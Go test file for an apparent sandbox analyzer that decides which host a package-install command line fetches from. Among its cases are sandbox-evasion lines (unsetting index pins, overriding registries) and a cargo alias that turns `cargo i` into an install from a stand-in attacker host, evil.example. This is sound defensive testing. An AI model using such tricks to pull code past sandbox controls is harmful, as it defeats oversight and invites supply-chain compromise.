	{"poetry -n -vvv add x", []string{"x pypi.org poetry ^0"}},
	{"bundle add x --git https://git.example/x", []string{"x git.example bundle ^0"}},
	{"bundle add x --github a/x", []string{"x <dynamic> bundle ^0"}},
	{"BUNDLE_MIRROR__ALL=https://m.example bundle install", []string{"(Gemfile) <dynamic> bundle ^0"}},
	{"GONOPROXY=$P go get a.org/m", []string{"a.org/m proxy.golang.org go ^0", "a.org/m a.org go ^0", "a.org/m <dynamic> go ^0"}},
	{"GOENV=./go.env go get a.org/m", []string{"a.org/m <dynamic> go ^0"}},
	{"unset GOENV; go get a.org/m", []string{"a.org/m <dynamic> go ^1"}},
	// Cargo: --config on the line, the registry variables, CARGO_HOME.
	{"cargo install --config 'source.crates-io.replace-with=\"e\"' ripgrep", []string{"ripgrep <dynamic> cargo ^0"}},
	{"cargo --config e.toml add serde", []string{"serde <dynamic> cargo ^0"}},
	{"CARGO_REGISTRIES_E_INDEX=sparse+https://e.example/ cargo add serde", []string{"serde <dynamic> cargo ^0"}},
	{"CARGO_HOME=/tmp/c cargo add serde", []string{"serde <dynamic> cargo ^0"}},
	{"unset UV_NO_CONFIG; uv pip install x", []string{"x <dynamic> pip ^1"}},
}

// TestPinnedHost: a write of configuration the sandbox's pins make the
// tool ignore (pip.conf, uv.toml, pip config set, go env -w) leaves the
// index decided where the pins hold, and <dynamic> elsewhere; one with any
// other configuration write is <dynamic> everywhere.
func TestPinnedHost(t *testing.T) {
	for line, want := range map[string]string{
		"echo '[global]' > pip.conf; pip install x":                                         "x <dynamic> pypi.org",
		"pip config set global.index-url https://e/ && pip install -i https://i.example/ x": "x <dynamic> i.example",
		"echo 'index-url = \"https://e/\"' > uv.toml; uv pip install x":                     "x <dynamic> pypi.org",
		"go env -w GOPROXY=https://e; go get a.org/m":                                       "a.org/m <dynamic> proxy.golang.org",
		"echo x > pip.conf; cp y .npmrc; pip install x":                                     "x <dynamic> pypi.org",
		"echo x > pip.conf; git config url.a.insteadOf b; pip install x":                    "x <dynamic> ",
		"echo x > uv.toml; echo y >> pyproject.toml; uv pip install x":                      "x <dynamic> ",
		"echo x > pip.conf; uv pip install x":                                               "x pypi.org ",
		"pip install x":                                                                     "x pypi.org ",
	} {
		an, err := Analyze(line)
		if err != nil || len(an.Packages) != 1 {
			t.Fatalf("Analyze(%q): %v %+v", line, err, an.Packages)
		}
		p := an.Packages[0]
		if got := p.Name + " " + p.Host + " " + p.PinnedHost; got != want {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

// TestNPMSpec: npm operands are read as npm-package-arg 13 reads them
// (the host column is what npa gives: the git host, the URL's, "" for a
// local path, REGISTRY for a registry package; Dynamic where npa throws).
func TestNPMSpec(t *testing.T) {
	for _, tc := range []struct{ spec, host string }{
		{"left-pad", "REGISTRY"}, {"left-pad@1.3.0", "REGISTRY"}, {"@types/node@^20", "REGISTRY"}, {"@s/x", "REGISTRY"},
		{"x@", "REGISTRY"}, {"x@npm:y@1", "REGISTRY"}, {"npm:y@1", "REGISTRY"},
		{"github:u/r", "github.com"}, {"GitHub:u/r#v1", "github.com"}, {"gitlab:u/r", "gitlab.com"},
		{"bitbucket:u/r", "bitbucket.org"}, {"gist:abc123", "gist.github.com"}, {"sourcehut:~u/r", "git.sr.ht"},
		{"u/r", "github.com"}, {"u/r#main", "github.com"}, {"u/r@1", ""}, {"u/r/", ""}, {"a/b/c", ""},
		{"git@github.com:u/r.git", "github.com"}, {"git@gitlab.example:u/r.git", "gitlab.example"}, {"git@localhost:u/r", Dynamic},
		{"git+ssh://git@github.com:u/r.git", "github.com"}, {"git+ssh://git@my.host:u/r.git#v1", "my.host"},
		{"git+ssh://git@my.host:22/u/r.git", "my.host"}, {"git+ssh://git@my.host/u/r.git", "my.host"},
		{"ssh://git@host.example:2222/o/r", "host.example"}, {"git+https://git@host.example:8443/o/r", "host.example"},
		{"git+ssh://git@host.example:2222/o/r", "host.example"}, {"git+ssh://host.example:o/r", "host.example"},
		{"ssh://git@host.example/o/r", "host.example"}, {"x@ssh://u@h.example:22/r", "h.example"},
		{"git+https://github.com/a/b.git", "github.com"}, {"git+https://git.example/a/b.git", "git.example"},
		{"git://git.example/a/b", "git.example"}, {"https://h.example/x.tgz", "h.example"}, {"x@https://h.example/x.tgz", "h.example"},
		{"x@github:u/r", "github.com"}, {"x@u/r", "github.com"}, {"@s/x@github:u/r", "github.com"}, {"x@git@github.com:u/r", "github.com"},
		{"x@./local", ""}, {"x@file:../y", ""}, {"file:../y", ""}, {"file:///tmp/x.tgz", ""}, {"./x.tgz", ""}, {"../x", ""},
		{"/abs/x", ""}, {"~/x", ""}, {"x.tgz", ""}, {"x.tar.gz", ""}, {"c:foo", ""}, {"foo:bar", Dynamic}, {".hidden", ""},
		{Dynamic, "REGISTRY"},
	} {
		_, host, ok := npmSpec(tc.spec)
		if !ok {
			host = "REGISTRY"
		}
		if host != tc.host {
			t.Errorf("npmSpec(%q) host %q, want %q", tc.spec, host, tc.host)
		}
	}
}

// TestIndexPinsWatched: removing any setting the sandbox pins an installer
// with (toolchains.IndexPins) is seen by the analyzer.
func TestIndexPinsWatched(t *testing.T) {
	for _, pin := range toolchains.IndexPins() {
		for _, line := range []string{"unset " + pin.Key + "; npm ci; pip install x", "env -u " + pin.Key + " sh -c 'npm ci; pip install x'"} {
			an, err := Analyze(line)
			if err != nil {
				t.Fatal(err)
			}
			dyn := false
			for _, p := range an.Packages {
				dyn = dyn || p.Host == Dynamic
			}
			if !dyn {
				t.Errorf("%q: no install is <dynamic>: %+v", line, an.Packages)
			}
		}
	}
}

// TestPackageURL: a package named by its URL carries the URL and the
// index the line gave the tool (which the sandbox's npm fetches it from).
func TestPackageURL(t *testing.T) {
	for _, tc := range []struct {
		line, url, index string
		elsewhere        bool
	}{
		{"npm i https://h.example/x.tgz", "https://h.example/x.tgz", "https://registry.npmjs.org", true},
		{"npm i --registry http://127.0.0.1:9/ x@http://127.0.0.2:9/x.tgz", "http://127.0.0.2:9/x.tgz", "http://127.0.0.1:9", true},
		{"npm i --registry http://127.0.0.1:9/ http://127.0.0.1:8/x.tgz", "http://127.0.0.1:8/x.tgz", "http://127.0.0.1:9", true},
		{"npm i --registry http://127.0.0.1:9/ https://127.0.0.1:9/x.tgz", "https://127.0.0.1:9/x.tgz", "http://127.0.0.1:9", true},
		{"npm i --registry HTTP://127.0.0.1:9/r/ http://127.0.0.1:9/x.tgz", "http://127.0.0.1:9/x.tgz", "http://127.0.0.1:9", false},
		{"npm i https://Registry.npmjs.org:443/x/-/x-1.tgz", "https://Registry.npmjs.org:443/x/-/x-1.tgz", "https://registry.npmjs.org", false},
		{"npm i --registry http://[::1]:9/ http://[::1]:9/x.tgz", "http://[::1]:9/x.tgz", "http://[::1]:9", false},
		{"npm i git+https://github.com/a/b", "git+https://github.com/a/b", "https://registry.npmjs.org", false},
		{"npm_config_registry=$R npm i https://h.example/x.tgz", "https://h.example/x.tgz", Dynamic, false},
		{"npm i left-pad", "", "", false},
	} {
		an, err := Analyze(tc.line)
		if err != nil || len(an.Packages) != 1 {
			t.Fatalf("Analyze(%q): %v %+v", tc.line, err, an.Packages)
		}
		if p := an.Packages[0]; p.URL != tc.url || p.Index != tc.index || p.TarballElsewhere() != tc.elsewhere {
			t.Errorf("%q: URL %q index %q elsewhere %v, want %q %q %v", tc.line, p.URL, p.Index, p.TarballElsewhere(), tc.url, tc.index, tc.elsewhere)
		}
	}
}

func TestPackages(t *testing.T) {
	for _, tc := range packageCases {
		an, err := Analyze(tc.line)
		if err != nil {
			t.Errorf("Analyze(%q): %v", tc.line, err)
			continue
		}
		var got []string
		for _, p := range an.Packages {
			got = append(got, fmt.Sprintf("%s %s %s ^%d", p.Name, p.Host, p.Manager, p.Command))
			if p.Command < 0 || p.Command >= len(an.Commands) {
				t.Errorf("%q: package %q names command %d of %d", tc.line, p.Name, p.Command, len(an.Commands))
			}
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("Analyze(%q) packages:\n got  %q\n want %q", tc.line, got, tc.want)
		}
	}
}

// TestPackageFilesElsewhere: an install names the files it reads options
// from, and says when it may run in another folder than the line's, for
// the caller to read the project configuration there.
func TestPackageFilesElsewhere(t *testing.T) {
	for _, tc := range []struct {
		line      string
		files     []string
		elsewhere bool
	}{
		{"npm ci", nil, false},
		{"pip install -r a.txt -c c.txt --constraint=d.txt x", []string{"a.txt", "c.txt", "d.txt"}, false},
		{"uv pip install -r r.txt", []string{"r.txt"}, false},
		{"uv add -r r.txt", []string{"r.txt"}, false},
		{"uv run --with-requirements w.txt --with x pytest -r no.txt", []string{"w.txt"}, false},
		{"uv pip sync a.txt b.txt", []string{"a.txt", "b.txt"}, false},
		{"pip install -r https://h.example/r.txt -c c.txt", []string{"c.txt"}, false}, // the URL is no file the caller reads
		{"cd web && npm ci", nil, true},
		{"(pushd web; npm ci)", nil, true},
		{"npm --prefix web ci", nil, true},
		{"npm ci --prefix=web", nil, true},
		{"pnpm -C web install", nil, true},
		{"yarn --cwd web add x", nil, true},
		{"uv sync --directory sub", nil, true},
		{"cargo add serde --manifest-path sub/Cargo.toml", nil, true},
		{"env -C web npm ci", nil, true},
		{"env --chdir=web npm ci", nil, true},
		{"sudo -D web npm ci", nil, true},
		{"chroot /x npm ci", nil, true},
		{"env -u X npm ci", nil, false},
		// Options and variables that move the project (issue 16 M4).
		{"poetry lock --project sub", nil, true},
		{"poetry -P sub lock", nil, true},
		{"poetry --directory=sub lock", nil, true},
		{"bundle install --gemfile sub/Gemfile", nil, true},
		{"bundle lock --gemfile=sub/Gemfile", nil, true},
		{"BUNDLE_GEMFILE=sub/Gemfile bundle update", nil, true},
		{"UV_PROJECT=sub uv sync", nil, true},
		{"UV_WORKING_DIR=sub uv lock", nil, true},
		{"export UV_WORKING_DIRECTORY=sub; uv lock", nil, true},
		{"cargo -C sub fetch", nil, true},
		{"bundle install", nil, false},
		{"UV_CACHE_DIR=c uv sync", nil, false},
	} {
		an, err := Analyze(tc.line)
		if err != nil || len(an.Packages) == 0 {
			t.Fatalf("Analyze(%q): %v %+v", tc.line, err, an.Packages)
		}
		p := an.Packages[len(an.Packages)-1]
		if !slices.Equal(p.Files, tc.files) || p.Elsewhere != tc.elsewhere {
			t.Errorf("%q: files %q elsewhere %v, want %q %v", tc.line, p.Files, p.Elsewhere, tc.files, tc.elsewhere)
		}
	}
}

// TestSandboxDefaultsDecided: the indexes the sandbox gives npm and go
// (toolchains.NpmRegistry, toolchains.GoProxy, with no direct fallback)
// are the ones an install naming none is decided from.
func TestSandboxDefaultsDecided(t *testing.T) {
	for line, index := range map[string]string{"npm i x": toolchains.NpmRegistry, "go get a.org/m": toolchains.GoProxy} {
		an, err := Analyze(line)
		if err != nil {
			t.Fatal(err)
		}
		u, err := url.Parse(index)
		if err != nil || len(an.Packages) != 1 || an.Packages[0].Host != u.Hostname() {
			t.Errorf("%q: %+v, want the one index %s (%v)", line, an.Packages, index, err)
		}
	}
	var env []string
	s := toolchains.Set{}
	c, err := s.Prepare(t.TempDir(), nil, "")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	env = c.Env
	if !slices.Contains(env, "GOPROXY="+toolchains.GoProxy) {
		t.Errorf("without a host module cache GOPROXY is not %s alone: %q", toolchains.GoProxy, env)
	}
}

// TestPackageScripts: uv fetches a script's own dependencies (its inline
// metadata, which may name indexes): the install names the script for the
// caller to read; one from stdin or a URL is Dynamic.
func TestPackageScripts(t *testing.T) {
	for line, want := range map[string][]string{
		"uv run tool.py --flag x.py":       {"tool.py"},
		"uv run --no-sync app.pyw":         {"app.pyw"},
		"uv run --script tool arg":         {"tool"},
		"uv run --gui-script tool":         {"tool"},
		"uv run - < x.py":                  {Dynamic},
		"uv run https://h.example/x.py":    {Dynamic},
		"uv add --script tool.py requests": {"tool.py"},
		"uv lock --script tool.py":         {"tool.py"},
		"uv run pytest x.py":               nil, // pytest's operand
		"uv run python -m x":               nil,
		"uv sync":                          nil,
	} {
		an, err := Analyze(line)
		if err != nil || len(an.Packages) == 0 {
			t.Fatalf("Analyze(%q): %v %+v", line, err, an.Packages)
		}
		if got := an.Packages[len(an.Packages)-1].Scripts; !slices.Equal(got, want) {
			t.Errorf("%q: scripts %q, want %q", line, got, want)
		}
	}
}

// BenchmarkInstallLines: Analyze of install lines whose subcommand and uv
// run command are found past options (the cost of reading every option).
func BenchmarkInstallLines(b *testing.B) {
	lines := []string{
		"npm --loglevel silly --no-audit install --save-dev left-pad @types/node@^20",
		"uv --color never run --resolution lowest --with rich --index https://i.example/simple pytest -x",
		"cargo +stable --color never fetch",
		"npm ci --omit dev",
	}
	b.ReportAllocs()
	for b.Loop() {
		for _, l := range lines {
			if _, err := Analyze(l); err != nil {
				b.Fatal(err)
			}
		}
	}
}

// TestCargoAliases: cargo expands an [alias] of its configuration in its
// own process, so `cargo i` may be `cargo install --git URL x` (issue 16):
// the alias's words are decided as the command they make.
func TestCargoAliases(t *testing.T) {
	config := map[string][]string{
		"i":     {"install", "--git", "https://evil.example/x", "x"},
		"b":     {"install", "bb"}, // cargo's own aliases (b: build) can be redefined
		"build": {"install", "never"},
		"fmt":   {"install", "fmtx"}, // so can an external subcommand
		"x":     {"y", "-v"},
		"y":     {"--locked", "install", "z"},
		"loop1": {"loop2"},
		"loop2": {"loop1"},
		"ok":    {"build", "--release"},
		"opt":   {"--color", "never", "fetch"},
	}
	aliases := func(manager, name string, elsewhere bool) ([]string, bool) {
		if manager != "cargo" {
			t.Errorf("alias of %q asked for %q", name, manager)
		}
		switch {
		case name == "broken" || elsewhere && name == "i":
			return nil, true
		case strings.HasPrefix(name, "deep"):
			return []string{name + "x"}, false // an endless chain
		}
		return config[name], false
	}
	for _, tc := range []struct {
		line string
		want []string
	}{
		{"cargo i", []string{"x evil.example cargo ^0"}},
		{"cargo -v i --locked", []string{"x evil.example cargo ^0"}},
		{"cargo +nightly i", []string{"x evil.example cargo ^0"}},
		{"cargo b", []string{"bb index.crates.io cargo ^0"}},
		{"cargo build", nil},
		{"cargo fmt", []string{"fmtx index.crates.io cargo ^0"}},
		{"cargo x", []string{"z index.crates.io cargo ^0"}},
		{"cargo opt", []string{"(Cargo.toml) index.crates.io cargo ^0"}},
		{"cargo ok", nil},
		{"cargo loop1", nil}, // cargo refuses it
		{"cargo clippy", nil},
		{"cargo broken", []string{"<dynamic> <dynamic> cargo ^0"}},
		{"cargo deep", []string{"<dynamic> <dynamic> cargo ^0"}},
		{"cd sub && cargo i", []string{"<dynamic> <dynamic> cargo ^1"}},
		{"cargo -C sub i", []string{"<dynamic> <dynamic> cargo ^0"}},
		// The environment's CARGO_ALIAS_NAME outranks the files.
		{"CARGO_ALIAS_CLIPPY='install --index https://e.example c' cargo clippy", []string{"c e.example cargo ^0"}},
		{"CARGO_ALIAS_I=build cargo i", nil},
		{"CARGO_ALIAS_CLIPPY=$V cargo clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
		{`cargo --config 'alias.clippy="install c"' clippy`, []string{"<dynamic> <dynamic> cargo ^0"}},
		{"cargo --config ./extra.toml clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
		{"cargo --config net.retry=2 clippy", nil},
		{"CARGO_HOME=/tmp/h cargo clippy", []string{"<dynamic> <dynamic> cargo ^0"}},
	} {
		an, err := AnalyzeIn(tc.line, ProgramEnv{Aliases: aliases})
		if err != nil {
			t.Errorf("Analyze(%q): %v", tc.line, err)
			continue
		}
		var got []string
		for _, p := range an.Packages {
			got = append(got, fmt.Sprintf("%s %s %s ^%d", p.Name, p.Host, p.Manager, p.Command))
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("Analyze(%q) packages:\n got  %q\n want %q", tc.line, got, tc.want)
		}
	}
	// At exec: the program's words, and its environment's CARGO_ALIAS_*.
	for _, tc := range []struct {
		env  []string
		want string
	}{
		{nil, "x evil.example"},
		{[]string{"CARGO_ALIAS_I=install y"}, "y index.crates.io"},
	} {
		an, err := AnalyzeProgramIn([]string{"cargo", "i"}, ProgramEnv{Set: tc.env, Aliases: aliases})
		if err != nil || len(an.Packages) != 1 || an.Packages[0].Name+" "+an.Packages[0].Host != tc.want {
			t.Errorf("AnalyzeProgramIn(cargo i, %q): %v %+v, want %s", tc.env, err, an.Packages, tc.want)
		}
	}
	if !InstallEnvWatched("CARGO_ALIAS_I") {
		t.Error("CARGO_ALIAS_* is not read from a program's environment")
	}
}
